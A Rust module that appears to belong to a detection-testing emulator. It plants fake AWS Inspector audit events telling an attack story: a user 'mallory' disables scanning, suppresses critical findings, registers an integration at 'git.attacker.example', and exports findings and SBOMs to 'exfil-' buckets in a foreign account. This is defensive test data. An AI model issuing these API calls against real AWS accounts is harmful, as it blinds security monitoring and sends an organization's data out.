//! The planted story: suspicious Inspector activity at fixed offsets from `now`, for the saved
//! queries and detections to find (DESIGN.md's emulator; README "The emulator").

use super::{Caller, INSPECTOR_CLASSIC, INSPECTOR_SCAN, INSPECTOR2};

/// The account outside the organization that planted events send data and control to.
pub const FOREIGN_ACCOUNT: &str = "999988887777";

/// A suspicious event placed `days_ago` before `now`, for tests and saved queries to find. Most
/// tell one story: `mallory`, an IAM user seen for the first time, probes what she may do, then
/// blinds Inspector and sends its data out of the organization.
pub struct Planted {
    pub days_ago: i64,
    pub hour_offset: i64,
    pub account_index: usize,
    pub source: &'static str,
    pub name: &'static str,
    pub(super) read_only: bool,
    pub(super) caller: Caller,
    pub params: &'static str,
    /// An error code the call failed with.
    pub error: Option<&'static str>,
}

impl Planted {
    /// When it happens for `now` (µs): `days_ago` days and `hour_offset` hours before, moved
    /// earlier together with the events planted the same day when those would straddle a UTC
    /// midnight (to end a second before it). A detection that counts a principal's calls in a day
    /// (`denied-reconnaissance`: the three denied calls 16 days ago, 4, 3 and 2 hours before
    /// `now`'s time of day) must find them on one day whatever the hour; between 02:00 and 04:00
    /// UTC they fell on two.
    pub fn time(&self, now: i64) -> i64 {
        const HOUR: i64 = 3_600_000_000;
        const DAY: i64 = 24 * HOUR;
        let at = |p: &Planted| now - p.days_ago * DAY - p.hour_offset * HOUR;
        let group = || {
            PLANTED
                .iter()
                .filter(|p| p.days_ago == self.days_ago)
                .map(at)
        };
        let (first, last) = (group().min(), group().max());
        let shift = match (first, last) {
            (Some(f), Some(l)) if f.div_euclid(DAY) != l.div_euclid(DAY) => {
                l.rem_euclid(DAY) + 1_000_000
            }
            _ => 0,
        };
        at(self) - shift
    }
}

const fn plant(
    days_ago: i64,
    hour_offset: i64,
    account_index: usize,
    name: &'static str,
    caller: Caller,
    params: &'static str,
) -> Planted {
    Planted {
        days_ago,
        hour_offset,
        account_index,
        source: INSPECTOR2,
        name,
        read_only: false,
        caller,
        params,
        error: None,
    }
}

const MALLORY: Caller = Caller::IamUser("mallory");

pub const PLANTED: &[Planted] = &[
    // Reconnaissance: what may this identity do? Denied.
    Planted {
        read_only: true,
        error: Some("AccessDeniedException"),
        ..plant(16, 4, 0, "ListDelegatedAdminAccounts", MALLORY, "{}")
    },
    Planted {
        read_only: true,
        error: Some("AccessDeniedException"),
        ..plant(
            16,
            3,
            0,
            "GetEncryptionKey",
            MALLORY,
            r#"{"scanType":"CODE","resourceType":"AWS_LAMBDA_FUNCTION"}"#,
        )
    },
    Planted {
        read_only: true,
        error: Some("AccessDeniedException"),
        ..plant(16, 2, 0, "ListMembers", MALLORY, r#"{"maxResults":50}"#)
    },
    plant(
        15,
        1,
        0,
        "UpdateOrganizationConfiguration",
        MALLORY,
        r#"{"autoEnable":{"ec2":false,"ecr":false,"lambda":false,"lambdaCode":false,"codeRepository":false}}"#,
    ),
    plant(
        12,
        3,
        0,
        "CreateFilter",
        MALLORY,
        r#"{"action":"SUPPRESS","name":"hide-critical-ec2","description":"temporary","filterCriteria":{"severity":[{"comparison":"EQUALS","value":"CRITICAL"}],"resourceType":[{"comparison":"EQUALS","value":"AWS_EC2_INSTANCE"}]}}"#,
    ),
    plant(
        11,
        6,
        0,
        "UpdateEncryptionKey",
        MALLORY,
        r#"{"kmsKeyId":"arn:aws:kms:us-east-1:{foreign}:key/7e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b","scanType":"CODE","resourceType":"AWS_LAMBDA_FUNCTION"}"#,
    ),
    plant(
        10,
        2,
        1,
        "DisassociateMember",
        MALLORY,
        r#"{"accountId":"777788889999"}"#,
    ),
    plant(
        9,
        5,
        1,
        "Disable",
        MALLORY,
        r#"{"accountIds":["444455556666"],"resourceTypes":["EC2","ECR","LAMBDA"]}"#,
    ),
    plant(
        8,
        4,
        0,
        "UpdateEc2DeepInspectionConfiguration",
        MALLORY,
        r#"{"activateDeepInspection":false}"#,
    ),
    plant(
        7,
        3,
        0,
        "DeleteCisScanConfiguration",
        MALLORY,
        r#"{"scanConfigurationArn":"arn:aws:inspector2:us-east-1:111122223333:owner/111122223333/cis-configuration/0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0"}"#,
    ),
    plant(
        6,
        2,
        0,
        "CreateCodeSecurityIntegration",
        MALLORY,
        r#"{"name":"gitlab-mirror","type":"GITLAB_SELF_MANAGED","details":{"gitlabSelfManaged":{"instanceUrl":"https://git.attacker.example","accessToken":"HIDDEN_DUE_TO_SECURITY_REASONS"}}}"#,
    ),
    plant(
        5,
        2,
        0,
        "CreateFindingsReport",
        MALLORY,
        r#"{"reportFormat":"JSON","s3Destination":{"bucketName":"exfil-reports-{foreign}","keyPrefix":"inspector","kmsKeyArn":"arn:aws:kms:us-east-1:{foreign}:key/0d9c7a6e-1b2c-4d5e-8f90-a1b2c3d4e5f6"}}"#,
    ),
    plant(
        4,
        1,
        0,
        "CreateSbomExport",
        MALLORY,
        r#"{"reportFormat":"CYCLONEDX_1_4","s3Destination":{"bucketName":"exfil-sbom-{foreign}","keyPrefix":"sbom","kmsKeyArn":"arn:aws:kms:us-east-1:{foreign}:key/0d9c7a6e-1b2c-4d5e-8f90-a1b2c3d4e5f6"}}"#,
    ),
    Planted {
        source: INSPECTOR_SCAN,
        read_only: true,
        ..plant(
            3,
            2,
            0,
            "ScanSbom",
            MALLORY,
            r#"{"outputFormat":"INSPECTOR","sbom":"HIDDEN_DUE_TO_SECURITY_REASONS"}"#,
        )
    },
    plant(
        2,
        1,
        0,
        "DeleteFilter",
        MALLORY,
        r#"{"arn":"arn:aws:inspector2:us-east-1:111122223333:owner/111122223333/filter/hide-critical-ec2"}"#,
    ),
    // Inspector Classic's assessments in the member account go too.
    Planted {
        source: INSPECTOR_CLASSIC,
        ..plant(
            9,
            4,
            1,
            "DeleteAssessmentTemplate",
            MALLORY,
            r#"{"assessmentTemplateArn":"arn:aws:inspector:us-east-1:444455556666:target/0-nvgVhaxX/template/0-7sbz2Kz0"}"#,
        )
    },
    Planted {
        source: INSPECTOR_CLASSIC,
        ..plant(
            9,
            3,
            1,
            "UnsubscribeFromEvent",
            MALLORY,
            r#"{"resourceArn":"arn:aws:inspector:us-east-1:444455556666:target/0-nvgVhaxX/template/0-7sbz2Kz0","event":"FINDING_REPORTED","topicArn":"arn:aws:sns:us-east-1:444455556666:inspector-findings"}"#,
        )
    },
    // Control handed to an account outside the organization.
    plant(
        20,
        7,
        0,
        "EnableDelegatedAdminAccount",
        Caller::Root,
        r#"{"delegatedAdminAccountId":"{foreign}","clientToken":"5f1c2b64-0d0e-4f5e-9c55-1a2b3c4d5e6f"}"#,
    ),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_planted_the_same_day_share_a_utc_day_at_any_hour_and_keep_their_order() {
        const HOUR: i64 = 3_600_000_000;
        let day0 = 20_000 * 24 * HOUR; // a midnight, UTC
        for minutes in 0..24 * 60 {
            let now = day0 + minutes * 60_000_000 + 17_000_000;
            for a in PLANTED {
                let t = a.time(now);
                let plain = now - a.days_ago * 24 * HOUR - a.hour_offset * HOUR;
                assert!(
                    t <= plain && plain - t < 8 * HOUR,
                    "{} at {minutes} min",
                    a.name
                );
                for b in PLANTED.iter().filter(|b| b.days_ago == a.days_ago) {
                    let u = b.time(now);
                    assert_eq!(
                        t.div_euclid(24 * HOUR),
                        u.div_euclid(24 * HOUR),
                        "{} and {} at {minutes} min",
                        a.name,
                        b.name
                    );
                    assert_eq!(t.cmp(&u), b.hour_offset.cmp(&a.hour_offset));
                }
            }
        }
    }
}
